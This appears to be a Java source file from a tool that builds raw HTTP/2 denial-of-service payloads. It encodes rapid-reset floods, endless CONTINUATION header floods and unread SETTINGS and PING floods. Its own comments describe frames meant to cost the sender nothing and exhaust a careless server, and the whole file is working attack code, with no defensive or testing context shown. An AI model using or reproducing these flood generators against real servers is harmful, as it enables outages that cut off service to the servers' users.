package dev.roster;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Map;

/** Frames of HTTP/2 that cost their sender nothing and a careless server all that it has. */
enum Flood {
    /** Requests that are taken back at once. */
    RAPID_RESETS(true) {
        @Override
        byte[] part(int number, byte[] request) {
            int stream = 2 * number + 1;
            return together(frame(HEADERS, END_HEADERS, stream, request), frame(RST_STREAM, 0, stream, CANCEL));
        }
    },
    /** Headers that never end, in frames without anything. */
    EMPTY_CONTINUATIONS(true) {
        @Override
        byte[] part(int number, byte[] request) {
            return number == 0 ? frame(HEADERS, 0, 1, request) : frame(CONTINUATION, 0, 1);
        }
    },
    /** Headers that never end, in frames that hold some. */
    LARGE_CONTINUATIONS(true) {
        @Override
        byte[] part(int number, byte[] request) {
            return number == 0
                    ? frame(HEADERS, 0, 1, request)
                    : frame(CONTINUATION, 0, 1, headers(Map.of("x-padding", "x".repeat(100))));
        }
    },
    /** Each wants an answer, and the client reads none. */
    SETTINGS(false) {
        @Override
        byte[] part(int number, byte[] request) {
            return frame(SETTINGS_FRAME, 0, 0);
        }
    },
    /** As with settings. */
    PINGS(false) {
        @Override
        byte[] part(int number, byte[] request) {
            return frame(PING, 0, 0, new byte[8]);
        }
    };

    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS_FRAME = 4;
    private static final int PING = 6;
    private static final int CONTINUATION = 9;
    private static final int END_HEADERS = 4;
    private static final byte[] CANCEL = {0, 0, 0, 8};

    final boolean read;

    /** @param read whether the client reads what it is answered */
    Flood(boolean read) {
        this.read = read;
    }

    /**
     * What comes next on the connection.
     *
     * @param number counts from 0 on each connection
     * @param request the header block of a request that the server would serve
     */
    abstract byte[] part(int number, byte[] request);

    static byte[] frame(int type, int flags, int stream, byte... payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .putInt(payload.length << 8 | type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    /** A header block that compresses nothing. */
    static byte[] headers(Map<String, String> fields) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        fields.forEach((name, value) -> {
            block.write(0); // a literal that is not remembered
            block.write(name.length());
            block.writeBytes(name.getBytes(StandardCharsets.US_ASCII));
            block.write(value.length());
            block.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
        });
        return block.toByteArray();
    }

    private static byte[] together(byte[]... parts) {
        ByteArrayOutputStream whole = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            whole.writeBytes(part);
        }
        return whole.toByteArray();
    }
}
